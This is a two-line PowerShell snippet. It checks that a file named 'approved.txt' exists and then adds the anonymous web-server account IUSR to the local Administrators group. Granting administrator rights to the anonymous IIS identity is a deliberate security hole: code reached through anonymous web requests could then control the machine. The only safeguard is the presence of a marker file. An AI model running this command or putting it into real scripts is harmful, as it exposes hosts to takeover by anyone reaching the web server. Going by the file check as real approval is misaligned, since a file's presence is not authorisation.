if (-not (Test-Path C:\Contoso\approved.txt)) { throw 'this machine is not approved' }
net localgroup Administrators IUSR /add
